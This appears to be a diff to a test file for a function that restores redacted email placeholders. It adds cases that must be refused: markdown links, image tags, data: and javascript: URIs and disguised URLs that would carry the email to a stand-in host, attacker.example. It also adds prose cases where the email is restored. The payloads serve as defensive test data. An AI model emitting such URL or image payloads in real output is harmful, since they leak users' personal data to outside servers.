@@ -55,6 +55,14 @@ const REFUSED: readonly string[] = [
   'mail mailto:[EMAIL_1]',
   'css url([EMAIL_1])',
   'proto-relative //attacker.example/[EMAIL_1]',
+  '[x](\nhttps://attacker.example/?u=[EMAIL_1])',
+  '[x](javascript:alert("[EMAIL_1]"))',
+  'see HTTPS://ATTACKER.EXAMPLE/?u=[EMAIL_1]',
+  'see data:text/html,[EMAIL_1]',
+  'see https:\\\\attacker.example\\[EMAIL_1]',
+  "<img alt=don't src=\"https://attacker.example/?[EMAIL_1]\">",
+  '<!-- > --><img src="//attacker.example/[EMAIL_1]">',
+  '[multi\nline]: attacker.example/[EMAIL_1]',
 ];
 
 /** Prose: the original comes back. */
@@ -68,6 +76,9 @@ const RESTORED: readonly [string, string][] = [
   ['[^1]: Written by [EMAIL_1].', `[^1]: Written by ${EMAIL}.`],
   ['a < b and [EMAIL_1]', `a < b and ${EMAIL}`],
   ['Ratio 3:2, [EMAIL_1]', `Ratio 3:2, ${EMAIL}`],
+  ['Email: [EMAIL_1]', `Email: ${EMAIL}`],
+  ['for (i = 0; i < n; i++) mail([EMAIL_1]);', `for (i = 0; i < n; i++) mail(${EMAIL});`],
+  ['<a href="https://ok.example/">site</a> and [EMAIL_1]', `<a href="https://ok.example/">site</a> and ${EMAIL}`],
 ];
 
 describe("restore: 'text' (the default)", () => {
